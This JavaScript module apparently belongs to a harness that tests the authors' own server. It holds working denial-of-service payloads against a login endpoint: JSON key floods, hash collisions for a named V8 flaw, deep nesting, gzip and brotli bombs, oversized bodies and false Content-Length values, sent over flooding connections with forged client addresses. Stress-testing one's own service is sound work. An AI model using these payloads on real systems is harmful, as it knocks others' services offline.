// Bodies that cost more to understand than to send, that are larger than anything we take, or not what they say.

import { brotliCompressSync, gzipSync } from 'node:zlib'
import { anotherAddress, requestBytes } from '../requests.mjs'
import { flood } from '../sockets.mjs'

const connections = 16
const largest = 64 * 1024

/**
 * @param {string | Buffer} body
 * @param {readonly (readonly [string, string])[]} [lines]
 * @returns {(target: import('../attacks.mjs').Target) => import('../sockets.mjs').Attack}
 */
function posting(body, lines = []) {
  return ({ port }) =>
    flood(port, {
      connections,
      next: () => requestBytes('POST', '/auth/login', { body, lines, from: anotherAddress() }),
    })
}

/** Object keys as many as fit. */
function keys() {
  let text = '{"username":"a"'
  for (let at = 0; text.length < largest - 20; at++) text += `,"${at.toString(36)}":0`
  return `${text}}`
}

/**
 * Before the releases of March 2026, Node gives texts of digits a hash that anybody can compute (CVE-2026-21717): these share
 * its lowest bits.
 */
function colliding() {
  const texts = []
  for (let length = 0, at = 1; length < largest - 40; at++) {
    const text = String(at * 2 ** 13)
    texts.push(text)
    length += text.length + 3
  }
  return `{"username":${JSON.stringify(texts)}}`
}

const bomb = Buffer.alloc(64 * 2 ** 20, ' ')

/** @type {Record<string, import('../attacks.mjs').Definition>} */
export const bodies = {
  'json-keys': { what: '64 KiB of JSON keys', begin: posting(keys()) },
  'json-100000-keys': {
    what: '100,000 JSON keys, 1 MB',
    begin: posting(`{${Array.from({ length: 100_000 }, (_, at) => `"k${at}":0`).join(',')}}`),
  },
  'json-colliding': { what: '64 KiB of JSON texts that collide in old V8', begin: posting(colliding()) },
  'json-deep': { what: 'JSON 32,000 deep', begin: posting('['.repeat(32_000) + ']'.repeat(32_000)) },
  gzip: {
    what: '64 KiB of gzip that unpacks to 64 MiB',
    begin: posting(gzipSync(bomb), [['Content-Encoding', 'gzip']]),
  },
  brotli: {
    what: 'brotli that unpacks to 64 MiB',
    begin: posting(brotliCompressSync(bomb), [['Content-Encoding', 'br']]),
  },
  'large-chunked': {
    what: '8 MiB in chunks, without a length',
    begin: posting(`800000\r\n${'a'.repeat(8 * 2 ** 20)}\r\n0\r\n\r\n`, [['Transfer-Encoding', 'chunked']]),
  },
  'large-announced': {
    what: '8 MiB, announced',
    begin: posting('a'.repeat(8 * 2 ** 20)),
  },
  'length-too-small': {
    what: 'more bytes than Content-Length says',
    begin: posting('{}'.padEnd(1000), [['Content-Length', '2']]),
  },
  'length-enormous': {
    what: 'Content-Length of a terabyte',
    begin: posting('{}', [['Content-Length', String(2 ** 40)]]),
  },
}
